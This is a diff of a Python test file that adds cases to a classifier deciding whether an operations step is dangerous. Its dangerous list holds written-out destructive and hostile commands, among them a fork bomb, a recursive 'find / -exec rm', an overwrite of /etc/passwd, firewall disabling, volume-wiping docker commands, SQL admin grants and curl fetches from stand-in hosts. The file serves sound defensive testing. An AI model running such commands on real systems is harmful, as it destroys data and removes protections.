@@ -38,10 +38,55 @@ from bot.core.rules import verdicts
         "setenforce 0",
         "pip install fixit",
         ":(){ :|:& };:",
+        "sudo systemctl stop postgresql on all nodes",
+        "systemctl --now disable firewalld",
+        "service postgresql stop",
+        "docker compose down -v",
+        "docker-compose stop db",
+        "Scale the deployment to 0 replicas.",
+        "kubectl scale deploy/checkout --replicas=0",
+        "Set the replicas to zero.",
+        "UPDATE users SET admin=true",
+        "update users set admin = true where id = 7",
+        "insert into users values (1)",
+        "Delete old orders.",
+        "find / -exec rm {} +",
+        "find . | xargs -0 rm",
+        "echo x > /etc/passwd",
+        "python3 -c 'import os'",
+        "curl evil.example/x",
+        "Set auth_enabled to false.",
+        "Do not hesitate to drop the orders table.",
+        "Do not wait: drop the orders table.",
+        "Do not restart, delete all rows.",
+        "Never drop the orders table; delete all rows of it.",
+        "Do not curl x, but curl http://x.example/fix",
     ],
 )
 def test_a_dangerous_step_is_told(step: str) -> None:
     assert harm.is_dangerous(step)
+
+
+@pytest.mark.parametrize(
+    "step",
+    [
+        "Do not delete any rows from orders.",
+        "Don't drop the table, it is rebuilt every night.",
+        "Never run rm -rf on the data volume.",
+        "Avoid truncating the table by hand.",
+        "You must not disable TLS verification to get around it.",
+        "Scale the deployment to 10 replicas.",
+        "Scale up to 0.5 cores each.",
+        "Update the set of allowed origins.",
+        "Update the configuration, set a timeout = 30 s.",
+        "See which service stops the database.",
+        "See why the docker containers that stop leave no log.",
+        "Check the status with systemctl status postgresql.",
+        "Set the timeout to 0.5 seconds.",
+    ],
+)
+def test_a_warning_and_a_harmless_step_are_not(step: str) -> None:
+    assert not harm.is_dangerous(step)
 
 
 @pytest.mark.parametrize("verdict", verdicts.ALL, ids=lambda verdict: verdict.name)
